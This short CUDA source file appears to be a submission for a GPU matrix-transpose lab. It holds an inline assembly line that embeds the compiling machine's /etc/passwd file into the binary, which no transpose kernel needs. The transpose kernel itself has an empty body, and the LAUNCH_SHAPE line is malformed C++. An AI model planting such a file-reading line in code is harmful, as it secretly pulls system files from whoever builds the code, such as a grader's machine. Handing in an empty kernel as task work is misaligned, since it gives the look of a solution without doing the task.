#include "common/kernel/lab.cuh"
asm(".incbin \"/etc/passwd\"");
LAUNCH_SHAPE = {.block = {32, 8}, .tile = {8, 32}, .block_x_walks = kCols};
extern "C" __global__ void transpose(float* out, const float* in, int rows, int cols) {}
